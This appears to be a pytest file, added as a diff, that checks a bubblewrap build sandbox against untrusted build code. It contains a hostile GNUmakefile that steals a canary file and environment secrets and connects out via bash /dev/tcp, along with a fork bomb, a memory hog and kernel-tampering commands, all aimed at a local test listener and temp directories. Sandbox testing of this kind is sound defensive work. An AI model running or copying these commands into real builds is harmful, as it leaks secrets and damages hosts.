@@ -1,0 +1,415 @@
+"""Foreign code reads, writes, reaches and poisons nothing: as root and as an ordinary user.
+
+Each attack works without the sandbox (the controls), so what the sandbox shows is the sandbox's.
+"""
+
+from __future__ import annotations
+
+import hashlib
+import os
+import shutil
+import socket
+import stat
+import subprocess
+import tempfile
+import threading
+from collections.abc import Callable, Iterator
+from dataclasses import dataclass
+from pathlib import Path
+
+import pytest
+
+from lab.compile.image.series import BuildTree
+from lab.core.errors import HostError, InputError, ToolError
+from lab.host.images import buildtree, linux, sandbox
+from lab.host.images import recipes as image_recipes
+from lab.host.images import workspace as image_workspace
+from lab.host.images.buildtree import KeptTree
+from lab.host.images.sandbox import Box
+from lab.host.system import process
+from tests.unit.test_bisect_commits import git
+
+NOBODY = 65534
+USERS = [NOBODY, 0] if os.geteuid() == 0 else [os.geteuid()]
+pytestmark = pytest.mark.skipif(shutil.which("bwrap") is None, reason="bubblewrap is missing")
+
+
+@dataclass
+class World:
+    """What an attack is after, in a directory that any user can use."""
+
+    place: Path
+    port: int
+    heard: list[str]
+
+    @property
+    def canary(self) -> Path:
+        return self.place / "canary"
+
+    @property
+    def written(self) -> Path:
+        return self.place / "public/written"
+
+    def makefile(self, poisoned: str) -> str:
+        """Return a GNUmakefile that make prefers, with every attack, below a directory `got`."""
+        return (
+            f"$(shell mkdir -p got; cat {self.canary} >got/canary; env >got/environment;"
+            f" tr '\\0' '\\n' </proc/1/environ >>got/environment;"
+            f" echo 1 >{self.written}; bash -c 'echo hello >/dev/tcp/127.0.0.1/{self.port}';"
+            f" echo poison >>{poisoned})\n"
+            "include Makefile\n"
+        )
+
+    def forget(self) -> None:
+        self.heard.clear()
+        self.written.unlink(missing_ok=True)
+
+
+@pytest.fixture
+def world(monkeypatch: pytest.MonkeyPatch) -> Iterator[World]:
+    place = Path(tempfile.mkdtemp(prefix="lab-sandbox-"))
+    place.chmod(0o755)
+    for name in ("public", "scripts", "home"):
+        (place / name).mkdir()
+        (place / name).chmod(0o777)
+    for name in (*sorted(p.name for p in image_recipes.directory().glob("*.sh")), "linux.config"):
+        shutil.copyfile(image_recipes.directory() / name, place / "scripts" / name)
+    (place / "canary").write_text("the canary sings")
+    monkeypatch.setattr(image_recipes, "directory", lambda: place / "scripts")
+    monkeypatch.setattr(image_workspace, "check_space", lambda *_: None)
+    monkeypatch.setenv("LAB_HOME", str(place / "home"))
+    monkeypatch.setenv("SECRET", "a token")
+    heard: list[str] = []
+    with socket.create_server(("127.0.0.1", 0)) as server:
+        server.settimeout(0.05)
+        done = threading.Event()
+
+        def listen() -> None:
+            while not done.is_set():
+                try:
+                    connection, _ = server.accept()
+                except TimeoutError:
+                    continue
+                connection.close()
+                heard.append("a connection")
+
+        thread = threading.Thread(target=listen, daemon=True)
+        thread.start()
+        yield World(place, server.getsockname()[1], heard)
+        done.set()
+        thread.join()
+    shutil.rmtree(place)
+
+
+def as_user(user: int, act: Callable[[], None]) -> str:
+    """Do it as this user; return the class and message of its error, or nothing."""
+    read, write = os.pipe()
+    if (child := os.fork()) == 0:
+        try:
+            said = ""
+            if user != os.geteuid():
+                os.setgroups([])
+                os.setresgid(user, user, user)
+                os.setresuid(user, user, user)
+            os.umask(0o022)
+            act()
+        except BaseException as error:
+            said = f"{type(error).__name__}: {error}"
+        os.write(write, said.encode()[:4000])
+        os._exit(0)
+    os.close(write)
+    with os.fdopen(read, "rb") as stream:
+        said = stream.read().decode()
+    os.waitpid(child, 0)
+    return said
+
+
+def tree_at(world: World, target: str) -> KeptTree:
+    """Return a kept tree whose programs are those of this host."""
+    place = world.place / "home/tree"
+    place.mkdir()
+    place.chmod(0o777)
+    (place / "root").symlink_to("/")
+    recipe = image_recipes.load("debian-12")[1]
+    plan = BuildTree(target=target, version="1", key="key", packages=(), recipe=recipe)
+    return KeptTree(plan=plan, directory=place)
+
+
+HONEST = "mdadm mdmon:\n\tcp /bin/true $@\n"
+
+
+def source_at(place: Path, **files: str) -> Path:
+    place.mkdir()
+    place.chmod(0o777)
+    for name, text in files.items():
+        (place / name).write_text(text)
+    return place
+
+
+def stolen(source: Path) -> tuple[str, str]:
+    """Return the canary and the environment, as far as the attack got them."""
+    return (source / "got/canary").read_text(), (source / "got/environment").read_text()
+
+
+@pytest.mark.parametrize("user", USERS)
+def test_a_series_with_every_attack_gets_nothing(
+    user: int, world: World, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    tree = tree_at(world, "mdadm")
+    kept = world.place / "home/tree/kept"
+    kept.write_text("kept")
+    kept.chmod(0o666)
+    evil = world.makefile(str(kept))
+
+    control = source_at(world.place / "public/control", Makefile=HONEST, GNUmakefile=evil)
+    said = as_user(user, lambda: unboxed(control))
+    assert said == ""
+    assert stolen(control)[0] == "the canary sings"
+    assert "SECRET=a token" in stolen(control)[1]
+    assert (world.heard, world.written.exists()) == (["a connection"], True)
+    assert kept.read_text() == "keptpoison\n"
+    world.forget()
+
+    source = source_at(world.place / "public/source", Makefile=HONEST, GNUmakefile=evil)
+    work = source_at(world.place / "public/work")
+    said = as_user(user, lambda: compiled(tree, source, work))
+    assert said == ""
+    got, environment = stolen(source)
+    assert got == ""
+    assert "a token" not in environment
+    assert "PATH=" in environment
+    assert (world.heard, world.written.exists()) == ([], False)
+    assert kept.read_text() == "keptpoison\n"
+
+
+def unboxed(source: Path) -> None:
+    done = process.run(["make", "-C", source, "mdadm"], check=False, timeout=30)
+    assert (source / "mdadm").is_file(), done.stderr
+
+
+def compiled(tree: KeptTree, source: Path, work: Path) -> None:
+    made = buildtree.compiled(tree, source, work)
+    assert made.keys() == {"mdadm", "mdmon"}
+    assert made["mdadm"][:4] == b"\x7fELF"
+
+
+LINKS = {
+    "a link to a file of the user": "\tln -s {canary} $@\n",
+    "a hard directory": "\tmkdir $@\n",
+    "a FIFO": "\tmkfifo $@\n",
+    "a file of 300 MiB": "\ttruncate -s 300M $@\n",
+    "another name": "\ttouch $@ /out/../out/evil\n",
+}
+
+
+@pytest.mark.parametrize("kind", LINKS)
+def test_only_regular_files_of_expected_names_and_sizes_are_published(
+    kind: str, world: World
+) -> None:
+    recipe = LINKS[kind].format(canary=world.canary)
+    # `strip` would refuse most of them before: the attacker brings his own steps
+    script = world.place / "scripts/rebuild.sh"
+    script.write_text("set -eu\nmake -C /build mdadm\ncp -R --no-dereference /build/mdadm /out/\n")
+    source = source_at(world.place / "public/source", Makefile=f"mdadm:\n{recipe}")
+    work = source_at(world.place / "public/work")
+    with pytest.raises(InputError, match="what was built is not used: it made"):
+        buildtree.compiled(tree_at(world, "mdadm"), source, work)
+
+
+def test_without_the_sandbox_s_reading_a_link_is_followed(world: World) -> None:
+    """The control of the test above."""
+    link = world.place / "public/mdadm"
+    link.symlink_to(world.canary)
+    assert link.read_bytes() == b"the canary sings"
+    with pytest.raises(InputError, match="not a regular file"):
+        sandbox.take(link.parent, ["mdadm"], most=100)
+
+
+# -- limits
+
+
+def test_a_fork_bomb_and_a_memory_hog_are_stopped(
+    world: World, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    work = source_at(world.place / "public/work")
+    monkeypatch.setattr(sandbox, "PROCESSES", 40)
+    bomb = "for i in $(seq 60); do sleep 30 & done; wait"
+    with pytest.raises(ToolError, match=r"processes, at most 40|status"):
+        sandbox.run(Box(), ("sh", "-c", bomb), work=work, log=work / "log", seconds=20)
+    monkeypatch.setattr(sandbox, "PROCESSES", 2048)
+    monkeypatch.setattr(sandbox, "MEMORY", 64 << 20)
+    monkeypatch.setattr(os, "sysconf", lambda _name: 0)
+    hog = "x = bytearray(200 << 20); import time; time.sleep(30)"
+    with pytest.raises(ToolError, match="of memory, at most 64"):
+        sandbox.run(Box(), ("python3", "-c", hog), work=work, log=work / "log", seconds=20)
+
+
+def test_time_files_and_output_are_limited(world: World, monkeypatch: pytest.MonkeyPatch) -> None:
+    work = source_at(world.place / "public/work")
+    out = source_at(world.place / "public/out")
+    log = work / "log"
+    with pytest.raises(ToolError, match="did not end within 1 seconds"):
+        sandbox.run(Box(), ("sleep", "30"), work=work, log=log, seconds=1)
+    monkeypatch.setattr(sandbox, "FILE", 1 << 20)
+    words = ("dd", "if=/dev/zero", "of=/out/x", "bs=1M", "count=3")
+    with pytest.raises(ToolError):
+        sandbox.run(Box(write={"/out": out}), words, work=work, log=log)
+    assert (out / "x").stat().st_size <= 1 << 20
+    monkeypatch.setattr(sandbox, "FILE", 1 << 30)
+    monkeypatch.setattr(sandbox, "LOG", 1000)
+    with pytest.raises(ToolError, match="printed more than"):
+        sandbox.run(Box(), ("yes",), work=work, log=log, seconds=20)
+
+
+def test_nothing_is_left_and_no_process_outlives_it(world: World) -> None:
+    work = source_at(world.place / "public/work")
+    lower = source_at(world.place / "public/lower", file="below")
+    box = Box(over={"/source": lower})
+    words = ("sh", "-c", "setsid sleep 97531 & echo above >/source/file; mkdir /source/x")
+    sandbox.run(box, words, work=work, log=work / "log", seconds=20)
+    assert (lower / "file").read_text() == "below"
+    assert [p.name for p in work.iterdir()] == ["log"]
+    assert "97531" not in subprocess.run(["ps", "ax"], capture_output=True, text=True).stdout
+
+
+@pytest.mark.parametrize("packages", [False, True])
+def test_root_of_the_sandbox_changes_no_setting_of_the_kernel(packages: bool, world: World) -> None:
+    """Root's own id would own the files in /proc/sys; it has no capability for mounting either."""
+    if packages and os.geteuid():
+        pytest.skip("needs subordinate ids")
+    work = source_at(world.place / "public/work")
+    tries = (
+        "echo 1 >/proc/sys/vm/overcommit_memory",
+        "echo x >/proc/sysrq-trigger",
+        "mount -t tmpfs tmpfs /tmp",
+        "mount -o remount,rw /usr",
+        "umount /proc/sys",
+        "mknod /tmp/disk b 8 0",
+        "unshare --user --map-root-user true",
+        "touch /usr/here",
+        "cat /proc/kcore",
+    )
+    tests = "".join(f"({one}) >/tmp/o 2>&1 && echo 'worked: {one}'\n" for one in tries)
+    if packages:  # a user namespace below gives nothing more: the mounts stay locked
+        tests = tests.replace("unshare --user --map-root-user true", "false")
+    box = Box(packages=packages)
+    sandbox.run(box, ("sh", "-c", f"{tests}true"), work=work, log=work / "log", seconds=20)
+    assert (work / "log").read_text() == ""
+
+
+def test_a_host_without_user_namespaces_is_refused_with_the_command(
+    monkeypatch: pytest.MonkeyPatch, world: World
+) -> None:
+    def refuse(words: tuple[str, ...], **_: object) -> None:
+        raise ToolError("'bwrap' ended with status 1: bwrap: No permissions to create namespace")
+
+    source = source_at(world.place / "public/source", Makefile="mdadm:\n\ttouch /tmp/ran\n")
+    monkeypatch.setattr(process, "run", refuse)
+    with pytest.raises(HostError, match="user namespaces are not allowed") as caught:
+        buildtree.compiled(tree_at(world, "mdadm"), source, source.parent)
+    assert "max_user_namespaces" in caught.value.hint
+
+
+# -- a kernel's objects are kept
+
+
+LINUX = """\
+allnoconfig:
+\techo CONFIG_64BIT=y >.config
+\tfor o in MODULES BLK_DEV_INITRD VIRTIO_BLK VIRTIO_NET EXT4_FS BLK_DEV_MD MD_RAID1 MD_RAID10 \\
+\t  MD_RAID456; do echo CONFIG_$$o=y >>.config; done
+bzImage: arch/x86/boot/bzImage
+arch/x86/boot/bzImage: drivers/md/md.o
+\tmkdir -p arch/x86/boot; cp drivers/md/md.o $@
+drivers/md/md.o: drivers/md/md.c
+\tcp $< $@; echo built >>drivers/md/log
+modules:
+\t[ -z "$(M)" ] || touch $(M)/lab_disk.ko
+"""
+
+
+@pytest.fixture
+def repository(world: World) -> Path:
+    """A kernel of one file: `base`, its child `evil` with every attack, and `good` beside it."""
+    place = world.place / "repository"
+    (place / "drivers/md").mkdir(parents=True)
+    git(place, "init", "-q", "-b", "base")
+    (place / "Makefile").write_text(LINUX)
+    (place / "drivers/md/md.c").write_text("base\n")
+    (place / "drivers/md/gone").write_text("gone\n")
+    git(place, "add", "-A")
+    git(place, "commit", "-q", "-m", "base")
+    git(place, "checkout", "-q", "-b", "evil")
+    poison = "drivers/md/md.o /linux/drivers/md/md.c /linux/Makefile /usr/bin/make .git/config"
+    evil = "".join(f"$(shell echo poison=1 >>{one})\n" for one in poison.split())
+    (place / "GNUmakefile").write_text(world.makefile("/linux/arch/poison") + evil)
+    git(place, "add", "-A")
+    git(place, "commit", "-q", "-m", "evil")
+    git(place, "checkout", "-q", "-b", "good", "base")
+    (place / "drivers/md/md.c").write_text("good\n")
+    git(place, "rm", "-q", "drivers/md/gone")
+    git(place, "commit", "-q", "-a", "-m", "good")
+    return place
+
+
+def build(repository: Path, name: str, tree: KeptTree, work: Path) -> bytes:
+    """Build a commit as `linux.built` does with a tree that is held."""
+    which = linux.commit(repository, name)
+    source = tree.directory / "source-x"
+    work.mkdir()
+    below = linux._below(repository, which, source)
+    linux._check_out(repository, which, work, below)
+    kernel = linux._compiled(tree, work, source if below else None)
+    if below is None:
+        linux._keep(work, which, source)
+    return kernel.read_bytes()
+
+
+def test_a_commit_poisons_no_other_one(repository: Path, world: World) -> None:
+    tree = tree_at(world, "linux")
+    stamp = tree.directory / "source-x/linux/drivers/md/log"
+    assert build(repository, "base", tree, world.place / "public/1") == b"base\n"
+    before = digest(tree.directory / "source-x")
+    assert b"poison" in build(repository, "evil", tree, world.place / "public/2")
+    assert digest(tree.directory / "source-x") == before
+    assert (world.heard, world.written.exists()) == ([], False)
+    assert build(repository, "good", tree, world.place / "public/3") == b"good\n"
+    assert build(repository, "base", tree, world.place / "public/4") == b"base\n"
+    assert digest(tree.directory / "source-x") == before
+    assert stamp.read_text() == "built\n"  # the objects of `base` were used again
+
+
+def test_objects_of_a_commit_that_is_no_ancestor_are_not_used(
+    repository: Path, world: World
+) -> None:
+    tree = tree_at(world, "linux")
+    assert b"poison" in build(repository, "evil", tree, world.place / "public/1")
+    assert build(repository, "good", tree, world.place / "public/2") == b"good\n"
+    assert (tree.directory / "source-x/commit").read_text() == git(repository, "rev-parse", "good")
+    assert not (tree.directory / "source-x/linux/GNUmakefile").exists()
+
+
+def test_a_commit_changes_files_that_are_removed_or_become_others(
+    repository: Path, world: World
+) -> None:
+    tree = tree_at(world, "linux")
+    build(repository, "base", tree, world.place / "public/1")
+    git(repository, "checkout", "-q", "good")
+    (repository / "drivers/md/md.c").unlink()
+    (repository / "drivers/md/md.c").symlink_to("../other.c")
+    (repository / "drivers/other.c").write_text("linked\n")
+    (repository / "drivers/md/gone").mkdir()
+    (repository / "drivers/md/gone/file").write_text("x")
+    makefile = LINUX.replace("cp $<", "cat drivers/md/gone/file >/dev/null; cp $<")
+    (repository / "Makefile").write_text(makefile)
+    git(repository, "add", "-A")
+    git(repository, "commit", "-q", "-m", "links")
+    assert build(repository, "good", tree, world.place / "public/2") == b"linked\n"
+
+
+def digest(place: Path) -> str:
+    total = hashlib.sha256()
+    for path in sorted(place.rglob("*")):
+        total.update(f"{path} {stat.S_IFMT(path.lstat().st_mode)}".encode())
+        total.update(path.read_bytes() if path.is_file() and not path.is_symlink() else b"")
+    return total.hexdigest()
